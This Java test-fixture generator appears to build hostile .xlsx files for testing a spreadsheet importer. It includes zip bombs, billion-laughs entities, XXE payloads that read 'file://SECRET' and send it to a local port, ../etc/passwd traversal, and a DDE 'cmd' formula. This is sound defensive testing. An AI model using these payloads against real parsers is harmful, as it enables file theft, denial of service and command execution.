package vn.chamdiem.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.function.IntFunction;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import vn.chamdiem.hostile.Attack.Trait;

/** Workbooks that do what workbooks can, and parts of them that no program for spreadsheets writes. */
final class MadeWorkbooks {
    private static final String WORK = "work.xlsx";
    private static final String NOTE = "<c r=\"D2\" t=\"s\"><v>5</v></c>";
    private static final String END = "</sheetData>";
    private static final int MEGABYTE = 1 << 20;

    private MadeWorkbooks() {}

    /** What is laid into the place of the sheet of figures. */
    private interface Made {
        void write(Path file) throws IOException;
    }

    static List<Attack> all() {
        return List.of(
                book("ordinary", "nothing, so that the others are known to be read", Parts::new, Trait.HARMLESS),
                made(
                        "zip-bomb-sheet",
                        "a sheet that grows a thousandfold when it is unpacked",
                        file -> new Parts().write(file, Parts.SHEET, 160L * MEGABYTE)),
                made(
                        "zip-bomb-strings",
                        "texts that grow a thousandfold",
                        file -> new Parts().write(file, Parts.STRINGS, 160L * MEGABYTE)),
                made(
                        "zip-bomb-workbook",
                        "a list of sheets that grows a thousandfold",
                        file -> new Parts().write(file, Parts.WORKBOOK, 160L * MEGABYTE)),
                made(
                        "zip-bomb-types",
                        "a list of types that grows a thousandfold",
                        file -> new Parts().write(file, Parts.TYPES, 160L * MEGABYTE)),
                made(
                        "zip-bomb-styles",
                        "styles that grow a thousandfold",
                        file -> new Parts().write(file, Parts.STYLES, 160L * MEGABYTE)),
                made(
                        "zip-bomb-unknown",
                        "a part nobody asked for that grows a thousandfold",
                        file -> new Parts()
                                .with("xl/media/x.xml", "<?xml version=\"1.0\"?><x></x>")
                                .write(file, "xl/media/x.xml", 160L * MEGABYTE),
                        Trait.HARMLESS),
                book(
                        "laughs-in-strings",
                        "texts that stand for ten of the texts before",
                        () -> new Parts()
                                .declare(Parts.STRINGS, laughs())
                                .replace(Parts.STRINGS, "<t>x</t>", "<t>&l9;</t>")),
                book(
                        "laughs-in-sheet",
                        "a cell that stands for ten of the cells before",
                        () -> new Parts()
                                .declare(Parts.SHEET, laughs())
                                .replace(Parts.SHEET, "<v>364</v>", "<v>&l9;</v>")),
                book(
                        "entity-file-in-strings",
                        "a text that is a file",
                        () -> new Parts()
                                .declare(Parts.STRINGS, "<!DOCTYPE x [<!ENTITY s SYSTEM \"file://SECRET\">]>")
                                .replace(Parts.STRINGS, "<t>x</t>", "<t>&s;</t>")),
                book(
                        "entity-file-in-sheet",
                        "a cell that is a file",
                        () -> new Parts()
                                .declare(Parts.SHEET, "<!DOCTYPE x [<!ENTITY s SYSTEM \"file://SECRET\">]>")
                                .replace(Parts.SHEET, "<v>364</v>", "<v>&s;</v>")),
                book(
                        "entity-file-in-workbook",
                        "the name of a sheet that is a file",
                        () -> new Parts()
                                .declare(Parts.WORKBOOK, "<!DOCTYPE x [<!ENTITY s SYSTEM \"file://SECRET\">]>")
                                .replace(Parts.WORKBOOK, "<sheets>", "<sheets>&s;")),
                book(
                        "entity-call-in-sheet",
                        "a document type that lies on a port",
                        () -> new Parts()
                                .declare(Parts.SHEET, "<!DOCTYPE worksheet SYSTEM \"http://127.0.0.1:PORT/x.dtd\">")),
                book(
                        "entity-call-in-types",
                        "the same in the list of types",
                        () -> new Parts()
                                .declare(Parts.TYPES, "<!DOCTYPE Types SYSTEM \"http://127.0.0.1:PORT/x.dtd\">")),
                book(
                        "entity-call-in-links",
                        "the same in the list of links",
                        () -> new Parts().declare(Parts.LINK, "<!DOCTYPE x SYSTEM \"http://127.0.0.1:PORT/x.dtd\">")),
                book(
                        "entity-parameter",
                        "entities that would send a file to a port",
                        () -> new Parts()
                                .declare(
                                        Parts.STRINGS,
                                        "<!DOCTYPE x [<!ENTITY % s SYSTEM \"file://SECRET\"><!ENTITY % e \"<!ENTITY &#37; c SYSTEM 'http://127.0.0.1:PORT/?%s;'>\">%e;%c;]>")),
                book(
                        "schema-call",
                        "a schema that lies on a port",
                        () -> new Parts()
                                .replace(
                                        Parts.SHEET,
                                        "<worksheet ",
                                        "<worksheet xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"x http://127.0.0.1:PORT/x.xsd\" "),
                        Trait.HARMLESS),
                book(
                        "include",
                        "a part that includes a file",
                        () -> new Parts()
                                .replace(
                                        Parts.SHEET,
                                        "<sheetData>",
                                        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file://SECRET\" parse=\"text\"/><sheetData>"),
                        Trait.HARMLESS),
                book(
                        "style-sheet",
                        "a part with a style sheet on a port",
                        () -> new Parts()
                                .replace(
                                        Parts.SHEET,
                                        "<worksheet ",
                                        "<?xml-stylesheet type=\"text/xsl\" href=\"http://127.0.0.1:PORT/x.xsl\"?><worksheet "),
                        Trait.HARMLESS),
                book(
                        "sheet-elsewhere",
                        "a sheet that lies on a port",
                        () -> new Parts()
                                .replace(
                                        Parts.WORKBOOK_LINKS,
                                        "Target=\"worksheets/sheet1.xml\" ",
                                        "Target=\"http://127.0.0.1:PORT/sheet.xml\" TargetMode=\"External\"")),
                book(
                        "sheet-in-a-file",
                        "a sheet that is a file of the machine",
                        () -> new Parts()
                                .replace(
                                        Parts.WORKBOOK_LINKS,
                                        "Target=\"worksheets/sheet1.xml\" ",
                                        "Target=\"file://SECRET\" TargetMode=\"External\"")),
                book(
                        "sheet-above",
                        "a sheet that lies above its package",
                        () -> new Parts()
                                .replace(
                                        Parts.WORKBOOK_LINKS, "worksheets/sheet1.xml", "../../../../../../etc/passwd")),
                book(
                        "strings-elsewhere",
                        "texts that lie on a port",
                        () -> new Parts()
                                .replace(
                                        Parts.WORKBOOK_LINKS,
                                        "Target=\"sharedStrings.xml\" ",
                                        "Target=\"http://127.0.0.1:PORT/x.xml\" TargetMode=\"External\""),
                        Trait.HARMLESS),
                book(
                        "external-book",
                        "another workbook that this one takes figures from",
                        () -> new Parts()
                                .replace(
                                        Parts.WORKBOOK_LINKS,
                                        "</Relationships>",
                                        Parts.link("9", "externalLink", "externalLinks/externalLink1.xml", "")
                                                + "</Relationships>")
                                .with(
                                        "xl/externalLinks/externalLink1.xml",
                                        "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><externalBook xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" r:id=\"rId1\"/></externalLink>")
                                .with(
                                        "xl/externalLinks/_rels/externalLink1.xml.rels",
                                        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                                                + Parts.link(
                                                        "1",
                                                        "externalLinkPath",
                                                        "http://127.0.0.1:PORT/x.xlsx",
                                                        "TargetMode=\"External\"")
                                                + "</Relationships>"),
                        Trait.HARMLESS),
                cell(
                        "formula-web",
                        "a formula that calls a port",
                        "<c r=\"D2\" t=\"str\"><f>WEBSERVICE(\"http://127.0.0.1:PORT/\")</f><v>x</v></c>",
                        Trait.HARMLESS),
                cell(
                        "formula-exchange",
                        "a formula that starts a program",
                        "<c r=\"D2\" t=\"str\"><f>cmd|' /C calc'!A0</f><v>=canary()</v></c>",
                        Trait.HARMLESS),
                cell(
                        "formula-long",
                        "a formula as long as a book",
                        "<c r=\"D2\" t=\"str\"><f>" + "(".repeat(300_000) + "</f><v>x</v></c>",
                        Trait.HARMLESS),
                cell(
                        "formula-in-a-circle",
                        "a formula that is worked out from itself",
                        "<c r=\"D2\" t=\"str\"><f>D2&amp;D2</f><v>x</v></c>",
                        Trait.HARMLESS),
                cell(
                        "text-index-beyond",
                        "a text that is not among the texts",
                        "<c r=\"D2\" t=\"s\"><v>2147483647</v></c>"),
                cell("text-index-negative", "a text before the first", "<c r=\"D2\" t=\"s\"><v>-1</v></c>"),
                cell("text-index-none", "a text whose number is none", "<c r=\"D2\" t=\"s\"><v>x</v></c>"),
                cell(
                        "number-of-many-digits",
                        "a number of very many digits",
                        "<c r=\"D2\"><v>1e999999999</v></c>",
                        Trait.HARMLESS),
                cell("number-that-is-none", "a number that is none", "<c r=\"D2\"><v>NaN</v></c>"),
                cell(
                        "kind-unknown",
                        "a cell of a kind that there isn’t",
                        "<c r=\"D2\" t=\"java.lang.Runtime\"><v>1</v></c>",
                        Trait.HARMLESS),
                cell(
                        "style-beyond",
                        "a cell in a style that there isn’t",
                        "<c r=\"D2\" s=\"2147483647\"><v>1</v></c>",
                        Trait.HARMLESS),
                cell(
                        "column-beyond",
                        "a cell in a column that there isn’t",
                        "<c r=\"ZZZZZZZ2\" t=\"inlineStr\"><is><t>x</t></is></c>",
                        Trait.HARMLESS),
                cell(
                        "place-that-is-none",
                        "a cell at a place that is none",
                        "<c r=\"=canary()\" t=\"inlineStr\"><is><t>x</t></is></c>"),
                cell(
                        "text-of-markup",
                        "a text that is a page",
                        "<c r=\"D2\" t=\"inlineStr\"><is><t>&lt;canary&gt;${1000003*7}</t></is></c>",
                        Trait.HARMLESS),
                cell(
                        "text-with-terminal-signs",
                        "a text that clears the screen of a terminal",
                        "<c r=\"D2\" t=\"inlineStr\"><is><t>_x001B_[2J_x0007_</t></is></c>",
                        Trait.HARMLESS),
                cell(
                        "text-long",
                        "a cell as long as a book",
                        "<c r=\"D2\" t=\"inlineStr\"><is><t>" + "x".repeat(3_000_000) + "</t></is></c>",
                        Trait.HARMLESS),
                book(
                        "row-beyond",
                        "a row that there isn’t",
                        () -> new Parts().replace(Parts.SHEET, "<row r=\"2\">", "<row r=\"2147483647\">"),
                        Trait.HARMLESS),
                book(
                        "row-before",
                        "a row before the first",
                        () -> new Parts().replace(Parts.SHEET, "<row r=\"2\">", "<row r=\"-1\">"),
                        Trait.HARMLESS),
                book(
                        "row-repeated",
                        "a row that is there a hundred thousand times",
                        () -> new Parts()
                                .replace(
                                        Parts.SHEET,
                                        END,
                                        each(100_000, at -> "<row r=\"2\"><c r=\"A2\" t=\"s\"><v>4</v></c></row>")
                                                + END)),
                book(
                        "rows-many",
                        "rows of very many mistakes",
                        () -> new Parts()
                                .replace(
                                        Parts.SHEET,
                                        END,
                                        each(
                                                        100_000,
                                                        at -> "<row r=\"" + (at + 3) + "\"><c r=\"A" + (at + 3)
                                                                + "\"><v>7</v></c><c r=\"B" + (at + 3)
                                                                + "\" t=\"e\"><v>#REF!</v></c></row>")
                                                + END)),
                book(
                        "merged-all",
                        "cells that are merged over the whole sheet",
                        () -> new Parts()
                                .replace(
                                        Parts.SHEET,
                                        END,
                                        END + "<mergeCells>" + "<mergeCell ref=\"A1:XFD1048576\"/>".repeat(1_000)
                                                + "</mergeCells>"),
                        Trait.HARMLESS),
                book(
                        "merged-backwards",
                        "cells that are merged backwards",
                        () -> new Parts()
                                .replace(
                                        Parts.SHEET,
                                        END,
                                        END
                                                + "<mergeCells><mergeCell ref=\"XFD1048576:A1\"/><mergeCell ref=\"x\"/></mergeCells>")),
                book(
                        "dimension-all",
                        "a sheet that says it is as large as can be",
                        () -> new Parts()
                                .replace(Parts.SHEET, "<sheetData>", "<dimension ref=\"A1:XFD1048576\"/><sheetData>"),
                        Trait.HARMLESS),
                book(
                        "columns-all",
                        "columns that are described sixteen thousand times",
                        () -> new Parts()
                                .replace(
                                        Parts.SHEET,
                                        "<sheetData>",
                                        "<cols>" + "<col min=\"1\" max=\"16384\" hidden=\"1\"/>".repeat(16_000)
                                                + "</cols><sheetData>"),
                        Trait.HARMLESS),
                book(
                        "sheets-many",
                        "very many sheets that are one",
                        () -> new Parts()
                                .replace(
                                        Parts.WORKBOOK,
                                        "</sheets>",
                                        each(
                                                        5_000,
                                                        at -> "<sheet name=\"s" + at + "\" sheetId=\"" + (at + 2)
                                                                + "\" r:id=\"rId1\"/>")
                                                + "</sheets>"),
                        Trait.WHOLE),
                book(
                        "sheet-name-path",
                        "a sheet that is called like a path",
                        () -> new Parts().replace(Parts.WORKBOOK, "name=\"Work\"", "name=\"../../Work\""),
                        Trait.HARMLESS),
                book(
                        "sheet-name-markup",
                        "a sheet that is called like a page",
                        () -> new Parts().replace(Parts.WORKBOOK, "name=\"Work\"", "name=\"&lt;canary&gt;\""),
                        Trait.HARMLESS),
                book(
                        "deep-markup",
                        "a part that is deeper than a stack",
                        () -> new Parts()
                                .replace(Parts.SHEET, END, "<x>".repeat(200_000) + "</x>".repeat(200_000) + END)),
                book(
                        "many-attributes",
                        "an element of very many attributes",
                        () -> new Parts()
                                .replace(
                                        Parts.SHEET,
                                        "<sheetData>",
                                        "<sheetData " + each(100_000, at -> "a" + at + "=\"\" ") + ">")),
                book(
                        "many-texts",
                        "very many texts that nobody uses",
                        () -> new Parts()
                                .replace(Parts.STRINGS, "</sst>", "<si><t>x</t></si>".repeat(400_000) + "</sst>"),
                        Trait.HARMLESS),
                book(
                        "macros",
                        "a program within the workbook",
                        () -> new Parts()
                                .with("xl/vbaProject.bin", "Sub Auto_Open()")
                                .replace(Parts.TYPES, "sheet.main+xml", "sheet.macroEnabled.main+xml")),
                book(
                        "custom-interface",
                        "buttons of its own, with a call",
                        () -> new Parts()
                                .with("customUI/customUI.xml", "<customUI onLoad=\"canary\"/>")
                                .replace(
                                        Parts.LINK,
                                        "</Relationships>",
                                        Parts.link(
                                                        "8",
                                                        "extensibility",
                                                        "http://127.0.0.1:PORT/",
                                                        "TargetMode=\"External\"")
                                                + "</Relationships>"),
                        Trait.HARMLESS),
                made(
                        "entry-above",
                        "a part that would be unpacked above its folder",
                        file -> new Parts()
                                .with("../../../../canary.txt", "x")
                                .with("/canary.txt", "x")
                                .write(file)),
                made("entries-many", "a package of very many parts", MadeWorkbooks::manyEntries),
                made("entry-without-size", "a part that says it is smaller than it is", MadeWorkbooks::stored),
                made(
                        "within-itself",
                        "a package within a package",
                        file -> Files.write(file, nested(new Parts().bytes(file)))),
                made("cut", "half a package", file -> Files.write(file, Arrays.copyOf(new Parts().bytes(file), 700))),
                made(
                        "not-a-package",
                        "a text that is called like a workbook",
                        file -> Files.writeString(file, "agency,done,planned\nA1,1,2\n")),
                made(
                        "page-for-a-package",
                        "a page that is called like a workbook",
                        file -> Files.writeString(file, "<html><canary></html>")),
                made(
                        "old-book-header",
                        "the first bytes of an old workbook",
                        file -> Files.write(file, new byte[] {
                            (byte) 0xD0,
                            (byte) 0xCF,
                            0x11,
                            (byte) 0xE0,
                            (byte) 0xA1,
                            (byte) 0xB1,
                            0x1A,
                            (byte) 0xE1,
                            0,
                            0
                        })),
                made("nothing", "a workbook of no bytes", file -> Files.write(file, new byte[0])));
    }

    /** What makes a workbook of parts, anew for each run. */
    private interface Making {
        Parts parts();
    }

    private static Attack cell(String name, String tries, String cell, Trait... traits) {
        return book(name, tries, () -> new Parts().replace(Parts.SHEET, NOTE, cell), traits);
    }

    private static Attack book(String name, String tries, Making making, Trait... traits) {
        return made(name, tries, file -> making.parts().write(file), traits);
    }

    private static Attack made(String name, String tries, Made made, Trait... traits) {
        Trait[] all = Arrays.copyOf(traits, traits.length + 2);
        all[traits.length] = Trait.OWN;
        all[traits.length + 1] = Trait.WHOLE;
        return Attack.made(
                "xlsx",
                name,
                tries,
                WORK,
                folder -> {
                    // One of the two holds the figures, or every figure would be told twice.
                    Files.delete(Ground.place(folder, "work.csv"));
                    made.write(Ground.place(folder, WORK));
                },
                all);
    }

    private static String laughs() {
        return "<!DOCTYPE x [<!ENTITY l0 \"ha\">"
                + each(9, at -> "<!ENTITY l" + (at + 1) + " \"" + ("&l" + at + ";").repeat(10) + "\">") + "]>";
    }

    private static void manyEntries(Path file) throws IOException {
        Parts parts = new Parts();
        for (int at = 0; at < 20_000; at++) {
            parts.with("xl/x" + at + ".xml", "");
        }
        parts.write(file);
    }

    private static void stored(Path file) throws IOException {
        byte[] content = "<x/>".getBytes(StandardCharsets.UTF_8);
        try (OutputStream out = Files.newOutputStream(file);
                ZipOutputStream zip = new ZipOutputStream(out)) {
            ZipEntry entry = new ZipEntry(Parts.TYPES);
            entry.setMethod(ZipEntry.STORED);
            entry.setSize(content.length);
            CRC32 crc = new CRC32();
            crc.update(content);
            entry.setCrc(crc.getValue());
            zip.putNextEntry(entry);
            zip.write(content);
            zip.closeEntry();
        }
        byte[] all = Files.readAllBytes(file);
        // The length that the head of the part says.
        Arrays.fill(all, 22, 26, (byte) 0x7F);
        Files.write(file, all);
    }

    private static byte[] nested(byte[] inside) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("work.xlsx"));
            zip.write(inside);
            zip.closeEntry();
        }
        return bytes.toByteArray();
    }

    private static String each(int times, IntFunction<String> one) {
        return IntStream.range(0, times).mapToObj(one).collect(Collectors.joining());
    }
}
